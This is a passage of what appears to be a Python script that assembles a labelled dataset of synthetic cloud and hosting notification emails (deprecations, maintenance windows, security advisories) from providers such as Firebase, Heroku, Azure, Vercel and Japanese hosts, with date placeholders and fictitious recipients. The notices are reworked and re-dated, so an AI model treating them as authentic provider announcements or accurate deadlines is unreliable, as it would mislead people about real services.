Your project courier-alerts (courier-alerts-5521) sent messages through a legacy API in the last 28 days. Move your server code to the HTTP v1 API before {D:2024-06-20:long} to avoid interruptions.

Thanks,
The Firebase team

© 2027 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
You are receiving this mandatory service announcement because of important changes to your Firebase project.
""")

add(label="action-required", provider="Heroku",
    source="https://github.com/mitodl/ocw-studio/issues/2278",
    orig="2024-08-20", sent="2027-10-03 08:12:30 +0000",
    deadline=("shift", "2025-04-30"),
    frm="Heroku <noreply@heroku.com>",
    to="devops@atlas-learning.example",
    subject="Your app's stack is approaching end-of-life (Heroku-20)",
    text="""Hi,

You recently built atlas-studio, and that app still uses Heroku-20. This
stack is deprecated, and its retirement follows this schedule:

- Starting {D:2025-02-01:long}: once in every 7 days, we deliberately
  fail the first build of each Heroku-20 app and show a deprecation
  warning.
- Starting {D:2025-04-01:long}: the deliberate failure moves to the first
  build of every day.
- {D:2025-04-30:long}: end-of-life for Heroku-20. After this date the stack
  gets no more security updates, and apps left on it are your own risk.
- Starting {D:2025-05-01:long}: we no longer accept builds on Heroku-20.

Please plan the move of atlas-studio to a current stack now:
https://devcenter.heroku.com/articles/upgrading-to-the-latest-stack

More details are in the Heroku-20 End-of-Life FAQ:
https://help.heroku.com/NPN275RK/heroku-20-end-of-life-faq

The Heroku Team
""")

add(label="action-required", provider="Microsoft Azure",
    source="https://github.com/CDCgov/prime-reportstream/issues/13302",
    orig="2024-02-08", sent="2027-10-05 19:22:45 +0000",
    deadline=("shift", "2025-09-30"),
    frm="Microsoft Azure <azure-noreply@microsoft.com>",
    to="cloud-ops@westbrook-health.example",
    subject="Move to Standard SKU public IP addresses by {D:2025-09-30:dmy} - Basic SKU is being retired",
    html=True,
    text="""You are getting this notice because Basic SKU public IP addresses were used in your subscription in the last 30 days.

Subscription: Westbrook Reporting (8d2e41a7-5b39-4f0c-a6e1-2c7f90b3d854)

As a reminder, Basic SKU public IP addresses will be retired in Azure on {D:2025-09-30:dmy}. Your existing Basic SKU public IP addresses keep working until then, but from {D:2025-03-31:dmy} you will not be able to create new ones.

Compared with Basic, the Standard SKU offers:
- They work with other Azure products such as Standard Load Balancer, Azure Firewall and NAT Gateway.
- They are secure by default and block inbound traffic unless a network security group allows it.
- They support zone-redundant and zonal front ends for inbound and outbound traffic.

Basic SKU public IP addresses used by Azure Cloud Services (extended support) are not affected by this retirement, and no action is needed for them.

Required action

Look at the Standard SKU pricing, then move each Basic SKU public IP address in this subscription to Standard SKU no later than {D:2025-09-30:dmy}, so that nothing stops working when Basic SKU goes away.

Help and support

If you have questions, contact Microsoft Q&A or open a support request in the Azure portal.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

add(label="action-required", provider="OVHcloud",
    source="https://github.com/betagouv/api-subventions-asso/issues/2677",
    orig="2024-09-19", sent="2027-10-06 10:45:00 +0200",
    deadline=("shift", "2024-10-20"),
    frm="OVHcloud <noreply@ovhcloud.com>",
    to="tech@atelier-subventions.example",
    subject="Fin de vie de MongoDB 5.0 le {D:2024-10-20:fr} : migrez vos services",
    text="""Bonjour,

Au moins un de vos services MongoDB fonctionne encore en version 5.0.
Il est hébergé dans votre projet Public Cloud « reporting-atelier »
(identifiant 5e9b01c47d2a4f38b6c0e1a29f73d4b8).

La version 5.0 arrivera en fin de vie le {D:2024-10-20:iso}.

Passé cette date, OVHcloud mettra automatiquement à jour vos bases vers la
version de MongoDB la plus récente que nous prenons en charge. Les
nouvelles versions apportent des fonctionnalités et une sécurité
renforcée, mais elles peuvent aussi contenir des changements majeurs.

C'est pourquoi nous vous conseillons d'effectuer vous-même la migration
avant cette date, depuis votre espace client.

Documentation : https://help.ovhcloud.com/csm/fr-public-cloud-databases

Cordialement,
L'équipe OVHcloud
""")

add(label="action-required", provider="Vercel",
    source="https://github.com/stackcats/adventofcode-badge/issues/5",
    orig="2025-01-23", sent="2027-10-07 18:00:00 +0000",
    deadline=("shift", "2025-01-31"),
    frm="Vercel <notifications@vercel.com>",
    to="erik.holm@starsbadge.example",
    subject="[Action Required] Node.js 16 is being discontinued {D:2025-01-31:wd}, {D:2025-01-31:long}",
    html=True,
    text="""Support for Node.js 16 on Vercel ends on {D:2025-01-31:wd}, {D:2025-01-31:long}. Moving to a newer version keeps your deployments on a runtime that still gets security fixes and avoids build errors later.

Projects on your account that are still on Node.js 16 or an older release:
- stars-badge-proxy

You can list the affected projects for one team with the CLI:
  $ npm i -g vercel@latest
  $ vercel project ls --update-required --scope YOUR_TEAM_SLUG

How to move a project:
- Either put "22.x" in the engines field of package.json, or pick a newer Node.js version under General in the project's settings.
- Deploy again; the new version only applies to new deployments.
- Expect to bump some packages in package.json as well.

Our documentation covers the details.

Vercel Inc., 440 N Barranca Ave #4133, Covina, CA 91723
""")

add(label="action-required", provider="Atlassian Bitbucket",
    source="https://github.com/maneuver-agency/bitbucket-wp-updater/issues/2",
    orig="2025-07-18", sent="2027-10-08 13:15:00 +0000",
    deadline=("shift", "2026-06-09"),
    frm="Bitbucket <noreply@bitbucket.org>",
    to="web-team@orchardline.example",
    subject="App passwords are being replaced by API tokens in Bitbucket Cloud",
    text="""Hello,

Bitbucket Cloud is replacing app passwords with API tokens.

- From {D:2025-09-09:long}, you will no longer be able to create new app
  passwords. You will need to create and use API tokens instead.
- On {D:2026-06-09:long}, all existing app passwords will be deactivated.
  Any integration or tool that still signs in with an app password will
  stop working on that date.

Your workspace "orchardline-dev" has app passwords that were used in the
last 90 days.

What you need to do
1. Find the scripts, CI pipelines and tools that use app passwords.
2. Create API tokens with the scopes they need.
3. Switch each integration to its new token before {D:2026-06-09:long}.

Learn more: https://support.atlassian.com/bitbucket-cloud/docs/api-tokens/

The Bitbucket team
Atlassian
""")

add(label="action-required", provider="ムームードメイン (GMOペパボ) / お名前.com",
    source="https://odedanks.net/domain_ninshou/",
    orig="2015-07-30", sent="2027-10-08 10:30:00 +0900",
    deadline=("rel", 14),
    frm="ムームードメイン <support@muumuu-domain.com>",
    to="haruka.morishita@kurumi-craft.example",
    subject="【ムームードメイン】【重要】2週間以内にドメイン情報認証を行ってください",
    text="""森下 遥 様

ムームードメインをご利用いただき、誠にありがとうございます。

ドメイン名の管理団体「ICANN」が定めるWHOIS情報の正確性確認方針に
基づき、上位レジストラである「お名前.com」(GMOインターネットグループ株式会社)
から、ご登録のメールアドレス宛てに、アドレスが有効かどうかを確認する
メールが届きます。

確認メールの送信から2週間以内に認証のお手続きが完了しない場合、
ドメインの利用が制限され、そのドメインを使ったホームページの表示や
メールの送受信ができなくなります。忘れずにお手続きをお願いいたします。

なお、認証は1つのメールアドレスにつき1回のみです。
すでに認証済みのアドレスについて、再度のお手続きは発生しません。

-----------------------------------------------
■送信元メールアドレス
  verification-noreply@onamae.com
■件名
  【重要】[ムームードメイン] ドメイン 情報認証のお願い
■送信先
  ご登録の連絡先メールアドレス
■お手続き方法
  上記の件名で届くメールに記載されたURLを開き、
  メールアドレスの有効性を認証してください。
-----------------------------------------------

ムームードメイン
GMOペパボ株式会社
""")

add(label="action-required", provider="IIJ (IIJ IDサービス)",
    source="https://manual.iij.jp/iid/admin-help/42095884.html",
    orig="2019-12-02", sent="2027-10-09 12:00:00 +0900",
    deadline=("shift", "2020-01-01"),
    frm="IIJ IDサービス <noreply@auth.iij.jp>",
    to="id-admin@hoshizora-ins.example",
    subject="【IIJ IDサービス】Microsoft 365 設定の有効期限({D:2020-01-01:md})が近づいています",
    text="""※このメールはシステムから自動で送信しています。

id-admin@hoshizora-ins.example 様

IIJ IDサービスをご利用いただき、ありがとうございます。

Microsoft 365 との連携用に登録された Azure AD Client Secret が、
まもなく期限切れとなります。
期限が切れた後は、以下の操作ができません。

 1. Azure AD へのユーザー情報のプロビジョニング
 2. Azure AD とのフェデレーション設定の変更
    (すでに設定済みのフェデレーションによるログインは継続して動作します)

Client Secret を新しくするには、Graph API の設定画面で再登録が必要です。
手順はこちらのマニュアルに記載しています。
https://manual.auth.iij.jp/detail/m365/re_register_azure_ad_client_secret

--------------------
[アプリケーション名]
Microsoft 365 (hoshizora-ins-tenant)

[Azure AD Client Secret の有効期限]
{D:2020-01-01:ymd} 12:00 (JST)

[Graph API 設定ページ]
https://www.auth.iij.jp/console/#/applications/3981045527/edit/graph_api
--------------------

※このメールアドレスは送信専用です。ご返信いただいてもお答えできません。
※お心当たりのない場合は、お手数ですが管理者までお問い合わせください。

====================================
株式会社インターネットイニシアティブ
====================================
""")

add(label="action-required", provider="ニフクラ (富士通クラウドテクノロジーズ)",
    source="https://hosting.nifcloud.com/manual_detail/1916/",
    orig="2020-11-02", sent="2027-10-10 09:00:00 +0900",
    deadline=("shift", "2021-01-31"),
    frm="ニフクラ レンタルサーバー <inquiry_biz@hosting.nifcloud.com>",
    to="webmaster@sakuragaoka-design.example",
    subject="SSLサーバー証明書 更新のご案内(富士通クラウドテクノロジーズ)",
    text="""----------------------------------------
ニフクラ レンタルサーバーサービス SSL証明書
更新のご案内(90日前)
----------------------------------------

平素よりレンタルサーバーサービスをお使いいただき、誠にありがとうございます。

ご契約中の SSL証明書は、あと90日で有効期限を迎えます。
期限後も HTTPS でのご利用を続ける場合は、以下の手順で更新をお申し込みください。

なお、証明書をお客様ご自身で調達されている場合は、期限の日までに
新しい証明書を入手し、コントロールパネルから差し替えをお願いします。

**************************
<証明書情報>

◆コモンネーム(CN):www.sakuragaoka-design.example

◆有効期限満了日:{D:2021-01-31:ja}
**************************

※更新のお申し込みはこちら
 サーバー証明書 更新のお手続きについて
 https://hosting.nifcloud.com/manual_detail/1916/

富士通クラウドテクノロジーズ株式会社
ニフクラ レンタルサーバー サポート
""")

add(label="action-required", provider="Xserver",
    source="https://ipodtouching.info/?p=15129",
    orig="2020-04-10", sent="2027-10-11 04:12:00 +0900",
    deadline=("shift", "2020-04-28"),
    frm="エックスサーバー <support@xserver.ne.jp>",
    to="owner@tanuki-works.example",
    subject="【Xserver】■重要■ SSLサーバー証明書(www.tanuki-works.example) 更新未完了のお知らせ",
    text="""━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
【Xserver】■重要■ SSLサーバー証明書
(www.tanuki-works.example) 更新未完了のお知らせ
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

XserverアカウントID : xsvc2071583
メールアドレス     : owner@tanuki-works.example

いつもエックスサーバーをご利用いただき、誠にありがとうございます。
Xserver カスタマーサポートでございます。

下記のSSLサーバー証明書(サーバーID「tanukiworks」)は、当サポートで
自動更新を試みましたが、処理がエラーとなり、現在も更新されていない
状態です。

────────────────────
■SSL更新情報
【SSLブランド】 : Let's Encrypt
【SSLプラン】   : SNI SSL(ネームベース)
【サーバーID】  : tanukiworks
【コモンネーム】: www.tanuki-works.example
【サイトURL】   : https://www.tanuki-works.example
【有効期限日】  : {D:2020-04-28:ja}
────────────────────

ネームサーバーやDNSレコードの設定、.htaccess によるアクセス制限、
転送設定などにより、認証用のアクセスが届かなかった可能性がございます。
設定をご確認のうえ、有効期限日までにサーバーパネルの「SSL設定」から
再度お申し込みください。

有効期限を過ぎると、ブラウザで警告が表示されるようになります。

────────────────────
エックスサーバー株式会社
────────────────────
""")

add(label="action-required", provider="Microsoft Azure",
    source="https://github.com/spring-cloud/spring-cloud-function/issues/885",
    orig="2022-06-15", sent="2027-10-12 20:05:00 +0000",
    deadline=("shift", "2022-12-03"),
    frm="Microsoft Azure <azure-noreply@microsoft.com>",
    to="platform@larkspur-cloud.example",
    subject="Update your Azure Functions apps to runtime version 4.x before {D:2022-12-03:dmy}",
    html=True,
    text="""You are receiving this email because you have Azure Functions apps that run on runtime version 2.x or 3.x.

.NET Core 3.1 will be retired on {D:2022-12-03:dmy}. Because runtime versions 2.x and 3.x of Azure Functions depend on .NET Core 3.1, they will be retired on the same day.

Nothing stops on that date: apps on 2.x or 3.x go on running as before. What ends is maintenance - these versions will get no further updates, and support cases for them will no longer be handled.

Runtime version 4.x gives you:
- The latest security updates.
- Support for current languages such as .NET 6 and Node 16.

Required action

Update your function apps to runtime version 4.x before {D:2022-12-03:dmy}.

Affected subscription: Larkspur Integration (0b7c2f54-9e13-4d6a-8a21-c4f9e05d7b36)

Help and support

If you have questions, get answers from community experts in Microsoft Q&A or contact Azure support.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""")

add(label="action-required", provider="Render",
    source="https://github.com/AllYourBot/hostedgpt/issues/115",
    orig="2024-02-08", sent="2027-10-13 15:30:00 +0000",
    deadline=("shift", "2024-04-16"),
    frm="Render <no-reply@render.com>",
    to="sam.okafor@brightpath.example",
    subject="Your free database brightpath-db expires on {D:2024-04-16:long}",
    text="""Hi Sam,

Free PostgreSQL databases on Render are temporary.

Your database brightpath-db will expire on {D:2024-04-16:long}. Unless you
upgrade it to a paid instance type before then, the database and all of
its data will be deleted.

Upgrade brightpath-db:
https://dashboard.render.com/d/dpg-cq7h2v1u0jms73b1e4g0-a/upgrade

If you no longer need this database, you can export your data with
pg_dump before the expiry date.

- The Render Team
""")

add(label="action-required", provider="GitHub",
    source="https://github.com/lewagon/setup/issues/141",
    orig="2020-04-07", sent="2027-10-14 18:27:40 +0000",
    deadline=("shift", "2020-11-13"),
    frm="GitHub <noreply@github.com>",
    to="Nadia Farouk <nadia.farouk@pinecrest-edu.example>",
    subject="[GitHub] Deprecation Notice",
    text="""Hi @nadia-farouk,

On {D:2020-04-07:long} at 18:27 (UTC), you or an application you use called
the deprecated Authorizations endpoint of the GitHub API with the user
agent Octokit Ruby Gem 4.18.0.

The Authorizations API endpoint will be removed on {D:2020-11-13:long}. If
you reached the API through password authentication, please switch to the
web application flow. Make sure your application authenticates with the
web flow:
https://developer.github.com/apps/building-oauth-apps/authorizing-oauth-apps/#web-application-flow

Our developer blog explains the change in more detail:
https://developer.github.com/changes/2020-02-14-deprecating-oauth-auth-endpoint/

Thanks,
The GitHub Team
""")

add(label="action-required", provider="Google Workspace",
    source="https://workspaceupdates-ja.googleblog.com/2023/10/2024-9-30-google-google-sync.html",
    orig="2023-10-04", sent="2027-10-15 02:00:00 +0000",
    deadline=("shift", "2024-09-30"),
    frm="Google Workspace <workspace-noreply@google.com>",
    to="admin@tanuki-works.example",
    subject="[要対応] {D:2024-09-30:ja}以降、Google Workspace で安全性の低いアプリを使用できなくなります",
    html=True,
    text="""管理者様

Google Workspace では、アカウントを守るための取り組みとして、パスワードそのものを他社製アプリや機器に預けてサインインさせる方式を廃止します。

この方式のアプリは「安全性の低いアプリ（LSA）」と呼ばれます。パスワードが第三者のソフトウェアに保存されるため、そこから漏れた場合にアカウントが乗っ取られやすくなります。

代わりに、OAuth による「Google でログイン」へ切り替えてください。主要なメールクライアントやデバイスの多くは、すでに OAuth に対応しています。

LSA へのアクセスは、次の 2 段階で無効になります。

- {D:2024-06-15:ja}以降：管理コンソールから LSA の設定が削除され、変更できなくなります。この時点で設定が有効なユーザーは引き続き接続できますが、無効のユーザーは接続できなくなります。対象は、CalDAV、CardDAV、IMAP、SMTP、POP などでパスワードのみを使って Gmail、カレンダー、連絡帳にアクセスするアプリです。
- {D:2024-09-30:ja}以降：すべての Google Workspace アカウントで LSA へのアクセスが無効になります。

必要な対応

ドメイン tanuki-works.example では、過去 30 日間に LSA を使用したユーザーが 7 名確認されています。{D:2024-09-30:ja}までに、該当ユーザーのメールクライアントやデバイスを OAuth 対応の方式へ切り替えてください。

Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
このメールは、Google Workspace のサービスに関する重要な変更をお知らせするためにお送りしています。
""")

add(label="action-required", provider="Twilio",
    source="https://github.com/twilio/voice-quickstart-android/pull/171",
    orig="2018-04-05", sent="2027-10-16 17:45:00 +0000",
    deadline=("shift", "2018-09-18"),
    frm="Twilio <no-reply@twilio.com>",
    to="android-team@clinicall.example",
    subject="Action required: update the Programmable Voice Android SDK to 2.0.4 or later before {D:2018-09-18:long}",
    text="""Hello,

We are rolling out new SSL certificates on the Twilio Voice
infrastructure in phases. Because of this change, versions of the
Programmable Voice Android SDK older than 2.0.4 will not be able to
connect calls after {D:2018-09-18:long}.

Our records show that your account ACd41f9c0e7b2a5831f6e0c4d9a2b7e351
placed calls with Android SDK 2.0.2 during the last 30 days.

What you need to do
- Update your Android app to Voice SDK 2.0.4 or later.
- Publish the new version to your users well before {D:2018-09-18:long},
  so that people who update late are not affected.

The SDK changelog and upgrade notes are available in our documentation.
If you have questions, our support team is happy to help.

Thanks,
The Twilio Voice team
""")

add(label="action-required", provider="MongoDB (mLab / Atlas)",
    source="https://github.com/Giveth/giveth-dapp/issues/1244",
    orig="2020-05-06", sent="2027-10-17 16:00:00 +0000",
    deadline=("shift", "2020-05-31"),
    frm="mLab <support@mlab.com>",
    to="infra@harborview.example",
    subject="Reminder: migrate your mLab deployments to MongoDB Atlas by {D:2020-05-31:long}",
    text="""Hello from mLab,

As we announced in {D:2018-10-09:monthyear}, mLab has joined MongoDB, Inc.
As part of bringing the two organizations together, the mLab service is
being shut down, and we are helping every user move to MongoDB Atlas.

Our teams have since released a migration tool that copies an mLab
deployment into Atlas with only a short cut-over, and mLab customers can
get an Atlas support plan at a reduced price.

Once more: your mLab deployments must be migrated to MongoDB Atlas by
{D:2020-05-31:long}. After moving, you will have access to current MongoDB
versions, cross-region replication, the MongoDB Connector for BI, support
for compliance standards such as SOC2 and HIPAA, and more.

Every deployment in the "harborview" mLab account has to be migrated,
including:

  ds112358 (harborview-prod) - Shared plan

Useful documentation:
  Migration FAQ:         https://docs.mlab.com/mlab-to-atlas/#faq
  Step-by-step guide:    https://docs.mlab.com/how-to-migrate-to-atlas/

Thank you,
The mLab Team
""")

add(label="action-required", provider="DigitalOcean",
    source="https://github.com/Ocelot-Social-Community/Ocelot-Social/issues/6869",
    orig="2023-11-16", sent="2027-10-18 14:00:00 +0000",
    deadline=("shift", "2023-11-30"),
    frm="DigitalOcean <no-reply@digitalocean.com>",
    to="ops@commonsquare.example",
    subject="The Kubernetes Dashboard button is leaving the DigitalOcean cloud console on {D:2023-11-30:long}",
    text="""Hi there,

We regularly look at how our features are used so that we keep offering
real value. Over the past year, the built-in Kubernetes Dashboard that
opens from the DigitalOcean Kubernetes (DOKS) cloud console has been used
very little. Many customers install their own dashboard or use other
monitoring tools instead.

For this reason we are removing the Kubernetes Dashboard button from the
DOKS cloud console, effective {D:2023-11-30:long}.

Impact and recommendations
- For most users, including everyone who already runs their own
  dashboard, nothing changes.
- If you are one of the few who use the dashboard button, install the
  dashboard yourself from its GitHub repository before that date, and
  check that the version you choose supports your cluster version.
- Dashboard 3.0 is currently an alpha release, so we suggest staying on
  the 2.x line for production clusters.

If you have questions about this change, open a ticket from the Cloud
Support page.

Thank you,
Team DigitalOcean
""")

add(label="action-required", provider="Vultr",
    source="https://github.com/bluedotimpact/bluedot/issues/2569",
    orig="2026-05-28", sent="2027-10-19 12:00:00 +0000",
    deadline=("shift", "2026-06-29"),
    frm="Vultr <support@vultr.com>",
    to="software@fieldline-edu.example",
    subject="Vultr Kubernetes Version Alert",
    text="""Hello,

Your Vultr Kubernetes Engine (VKE) cluster "prod-ams-1" is running a
Kubernetes version that is being deprecated on VKE.

On {D:2026-06-29:long}, clusters that are still on this version will be
upgraded automatically to the next supported minor version.

We recommend upgrading the cluster yourself before that date, at a time
when your team is available to watch the rollout:

1. Open the cluster in the Vultr customer portal.
2. Go to "Manage Upgrades" and choose the next available version.
3. Confirm the upgrade and check your workloads afterwards.

Check your manifests and Helm charts for APIs removed in the newer
Kubernetes version before you upgrade.

Thanks,
The Vultr Team
""")

add(label="action-required", provider="GitHub",
    source="https://github.com/MetPX/sarracenia/pull/1287",
    orig="2024-11-06", sent="2027-10-20 16:45:00 +0000",
    deadline=("shift", "2024-12-05"),
    frm="GitHub <noreply@github.com>",
    to="maintainers@metrolink-data.example",
    subject="Artifact actions v3 will be deprecated by {D:2024-12-05:long}",
    html=True,
    text="""GitHub

Version 3 of the artifact actions will be deprecated by {D:2024-12-05:long}. You are getting this email because GitHub Actions workflows that you manage still use v3 of actions/upload-artifact or actions/download-artifact. After that date, workflows that use v3 of these actions will fail. Artifacts that are still within their retention period stay available in the UI and through the REST API, whichever version uploaded them.

To make people aware of the removal, we will make jobs that use v3 of actions/upload-artifact or actions/download-artifact fail temporarily. Builds that are scheduled during these brownout windows will fail:

- {D:2024-11-14:monthday}, 12pm - 1pm EST
- {D:2024-11-21:monthday}, 9am - 5pm EST

What you need to do

Update your workflows to use v4 of the artifact actions as soon as possible. v4 uploads and downloads much faster and adds several features, but it also behaves differently from earlier versions, so some workflows may need changes. The migration guide in each action's repository explains what to do.

GitHub, Inc. 88 Colin P Kelly Jr Street San Francisco, CA 94107
""")

# =============================== maintenance ===============================

add(label="maintenance", provider="MongoDB (mLab)",
    source="https://github.com/radgrad/radgrad/issues/297",
    orig="2019-04-08", sent="2027-10-21 17:00:00 +0000",
    deadline=("shift", "2019-05-07"),
    frm="mLab <support@mlab.com>",
    to="admin@pinecrest-edu.example",
    subject="Upcoming maintenance: MongoDB 3.4 to 3.6 upgrade for Shared plan deployments",
    text="""Hello from mLab,

We are ending support for MongoDB 3.4 on our Shared plans. You are
receiving this email because one or more deployments in the "pinecrest"
mLab account will be part of the upcoming maintenance.

On {D:2019-05-07:wd} {D:2019-05-07:monthday}, {D:2019-05-07:year}, we will begin a three-day maintenance
window in which every Shared plan deployment running MongoDB 3.4 is
upgraded to MongoDB 3.6. Sandbox and Dedicated plan deployments are not
affected.

Key details
- The window opens on {D:2019-05-07:wd}, {D:2019-05-07:monthday} at 10:00 am PDT / 5:00 pm UTC
  and lasts three days.
- Shared Single-node databases will be unreachable for about five
  minutes at some point during the window. Shared Cluster databases,
  which are highly available, will see failovers but no downtime.
- Please make sure your 3.4 deployments meet the upgrade requirements
  for 3.6. If you need to update your driver, we suggest moving straight
  to a driver that supports MongoDB 4.0.
- No other configuration changes are needed on your side.

Affected deployments in the "pinecrest" account
  Shared plan deployments on 3.4:
  ds204417 (pinecrest-paid) - Shared Single-node

Regards,
The mLab Team
""")

add(label="maintenance", provider="MongoDB Atlas",
    source="https://github.com/responsible-ai-collaborative/aiid/issues/448",
    orig="2022-02-12", sent="2027-10-22 15:00:00 +0000",
    deadline=None,
    frm="MongoDB Atlas <mongodb-atlas@mongodb.com>",
    to="Marta Quiroga <marta.quiroga@incidentlog.example>",
    subject="Your M0/M2/M5 Atlas clusters will be upgraded to MongoDB 5.0 next week",
    text="""Hi Marta,

Next week your M0/M2/M5 Atlas clusters will be upgraded to MongoDB 5.0
automatically. Only shared-tier clusters (M0/M2/M5) are included;
dedicated clusters (M10 and above) are not affected.

If you have not done so yet, please take the steps below so the change
goes smoothly.

What is new in 5.0?
- A Stable API that keeps application behavior the same across upgrades
- Native time series collections and clustered indexes
- Window functions and new temporal operators

What should I do?
- Update your driver to a version that supports 5.0 so your application
  keeps working. Our docs list the compatible driver versions.
- Remove commands that are no longer supported. For example, ensureIndex
  was removed in 5.0; the docs list all removed commands and their
  replacements.

Not ready?
You can move to a dedicated Atlas cluster to decide yourself when major
version upgrades and maintenance happen, and to use features such as
real-time performance metrics, automated archiving and index
recommendations.

The MongoDB Atlas Team
""")

add(label="maintenance", provider="DigitalOcean",
    source="https://github.com/webcompat/webcompat.com/issues/785",
    orig="2015-10-22", sent="2027-10-23 20:00:00 +0000",
    deadline=("shift", "2015-10-29"),
    frm="DigitalOcean <support@digitalocean.com>",
    to="Jonas Weber <jonas@relaymail.example>",
    subject="Scheduled upgrade for your Droplet relay-web-01",
    text="""Hi there,

Your Droplet relay-web-01 is due for an upgrade to our current cloud
platform, which brings it access to the features we have added recently.

Between {D:2015-10-29:dmys} 04:00 UTC and {D:2015-10-29:dmys} 22:00 UTC, the
hypervisor that hosts your Droplet relay-web-01 will start its migration.
Over roughly 18 hours, every Droplet on that hypervisor will be moved to
a new host. We spread the moves out so each one finishes on time and
without errors.

When your Droplet's turn comes, it will be powered off, and you should
expect about one minute of downtime for every GB of disk. If you run
services that cannot be interrupted at an unknown time, you can upgrade
the Droplet yourself beforehand, at a moment that suits you:

https://www.digitalocean.com/community/tutorials/how-to-manually-initiate-droplet-upgrade-to-latest-digitalocean-cloud

After the upgrade, please check that all of your services are running.
Some services may need to be restarted depending on their configuration.

If you have questions, simply reply to this email.

Thanks,
DigitalOcean Support
""")

add(label="maintenance", provider="Linode (Akamai)",
    source="https://github.com/backdrop-ops/backdropcms.org/issues/923",
    orig="2022-09-28", sent="2027-10-25 09:00:00 +0000",
    deadline=("shift", "2022-09-29"),
    frm="Linode Support <support@linode.com>",
    to="Felix Andersson <felix@larchwood-cms.example>",
    subject="Linode Ticket [#24018653] - Scheduled Maintenance",
    text="""Hello,

The migration of beta-larchwood-org that was postponed earlier has a new
date. You have a scheduled migration for beta-larchwood-org, which will
run automatically on {D:2022-09-29:iso} 22:00 (UTC).

What to expect
- The Linode will be shut down, moved to new hardware in the same data
  center, and booted again.
- Its IP addresses and configuration will not change.
- Downtime depends on the size of its disks.

If that time does not work for you, you can start the migration earlier
yourself from the Linode's page in Cloud Manager.

Please let us know if you have any questions or concerns.

Regards,
Linode Support Team
""")

add(label="maintenance", provider="さくらインターネット (さくらのクラウド)",
    source="https://blog.cles.jp/item/10038",
    orig="2018-03-13", sent="2027-10-26 11:00:00 +0900",
    deadline=("shift", "2018-03-20"),
    frm="さくらインターネット <support@sakura.ad.jp>",
    to="infra@hokuto-logistics.example",
    subject="【さくらのクラウド】 {D:2018-03-20:md} ご利用いただいているサーバのメンテナンスのお知らせ",
    text="""北斗ロジスティクス株式会社
篠原 拓海 様

いつも「さくらのクラウド」をご利用いただき、誠にありがとうございます。

当社では機器の監視を常時行っておりますが、お客様の仮想サーバが
収容されているホストサーバにおいて、ハードウェアの異常を示す警報を
検知いたしました。

現時点では安定して稼働しておりますが、今後この異常が障害として
表面化し、ホストサーバの停止によってお客様の仮想サーバへ接続できなく
なるおそれがございます。
こうした障害を事前に防ぐため、下記の日時に収容ホストの変更
メンテナンスを実施させていただきます。

  {D:2018-03-20:ja}({D:2018-03-20:jawd}) 02:00 ～ 04:00

作業時間中に、対象ホストに収容されているお客様のサーバ／アプライアンスが
再起動されます。
本メンテナンスの対象は以下のとおりです。

■ サーバ

・アカウント: ID=113800427719(hokuto-infra)
  サーバ: ID=113800991054 (hokuto-web02)
   収容ホストサーバ: sac-is1b-sv217

ご不便をおかけいたしますが、ご理解とご協力をお願い申し上げます。

さくらインターネット株式会社
""")

add(label="maintenance", provider="Heroku",
    source="https://github.com/sciencehistory/scihist_digicoll/issues/1544",
    orig="2022-01-18", sent="2027-10-27 18:00:00 +0000",
    deadline=("shift", "2022-01-26"),
    frm="Heroku <noreply@heroku.com>",
    to="dev@harborview.example",
    subject="Maintenance required: postgresql-curved-41877 on harborview-production",
    text="""Hello,

Your database postgresql-curved-41877 standard-0 (CRIMSON on
harborview-production) needs to go through maintenance.

We plan to carry out this maintenance at {D:2022-01-26:iso} 22:30:00 +0000,
during the maintenance window you have set: {D:2022-01-26:wds} 22:30 to
{D:2022-01-27:wds} 02:30 UTC.

At that time we will create a hidden follower, wait until it has caught
up, give its credentials to your app, stop it following your old leader,
and point any followers you have at the new leader.

You can pick a different maintenance window if it suits you better, for
example:
  heroku pg:maintenance:window CRIMSON "Tuesday 14:30"
to use Tuesdays at 2:30pm UTC.

You can also run the maintenance yourself right away with:
  heroku pg:maintenance:run CRIMSON

The Heroku Data Team
""")

# ============================ security-advisory ============================

add(label="security-advisory", provider="Google Cloud (GKE)",
    source="https://github.com/forseti-security/forseti-security/issues/1595",
    orig="2018-05-23", sent="2027-10-28 01:30:00 +0000",
    deadline=None,
    frm="Google Cloud Platform <CloudPlatform-noreply@google.com>",
    to="k8s-admins@pinecrest-analytics.example",
    subject="[Security Bulletin] Linux kernel vulnerabilities affecting Google Kubernetes Engine nodes",
    text="""Hello Google Kubernetes Engine customer,

Researchers have disclosed a set of Linux kernel flaws through which a
process without privileges can either gain root or bring the kernel down
(denial of service). They are tracked as CVE-2018-1000199,
CVE-2018-8897 and CVE-2018-1087. All Google Kubernetes Engine (GKE) nodes
are affected, and we recommend upgrading to the latest patch version as
described below.

What do I need to do?
Start by moving your master to the newest version, then the nodes. The fix is
included in Kubernetes Engine 1.8.12-gke.1, 1.9.7-gke.1 and 1.10.2-gke.1,
for both COS and Ubuntu node images.

If you create a new cluster before your existing ones are upgraded,
specify a patched version so that it is used. Nodes with node
auto-upgrade turned on will be moved to a patched version over the next
few weeks if you do not upgrade them manually.

Our records show that you have GKE clusters in the following project:
  pinecrest-analytics (pinecrest-analytics-3312)

Please see the GKE security bulletins page for further updates.

The Google Kubernetes Engine Team
""")

add(label="security-advisory", provider="Firebase",
    source="https://github.com/BlueBubblesApp/bluebubbles-server/issues/725",
    orig="2025-01-26", sent="2027-10-28 13:00:00 +0000",
    deadline=None,
    frm="Firebase <firebase-noreply@google.com>",
    to="dev@relaychat.example",
    subject="[Firebase] Your Realtime Database 'relaychat-7f3a1' has insecure rules",
    html=True,
    text="""We've detected a problem with your Security Rules

Project: relaychat (relaychat-7f3a1)
Database: relaychat-7f3a1-default-rtdb

Your Security Rules let anyone on the internet read data in your database, and write to parts of it. Without strong Security Rules, attackers can steal, change or delete your data, and can run operations that increase your bill.

Current rules (summary):
- ".read": true at the database root
- ".write": true for /config/nextRestart

What you can do
- Review your rules in the Firebase console and require authentication where possible.
- Give each user access only to the data they need.
- If this database is no longer used, delete it or lock it down completely.

You can turn off these alerts for this database in the Firebase console under Realtime Database > Rules.

The Firebase team
© 2027 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
""")

add(label="security-advisory", provider="Google Cloud (Dataflow)",
